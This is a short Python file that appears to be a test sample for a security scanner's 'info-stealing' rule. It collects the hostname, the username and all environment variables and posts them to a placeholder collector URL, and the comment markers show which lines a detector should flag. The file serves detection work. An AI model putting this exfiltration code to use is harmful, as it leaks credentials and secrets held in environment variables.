import json
import os
import socket
import urllib.request


def send_system_info(url):
    # Host and user names with every environment variable, posted to the caller's address (defanged).
    data = {
        'hostname': socket.gethostname(),
        'username': os.getlogin(),
        'environment_variables': dict(os.environ),
    }
    # ruleid: code/info-stealing
    req = urllib.request.Request(url, data=json.dumps(data).encode(), headers={'Content-Type': 'application/json'})
    # ruleid: code/info-stealing
    urllib.request.urlopen(req)


def post():
    send_system_info('https://collector.example.invalid/json?prefix=pip')
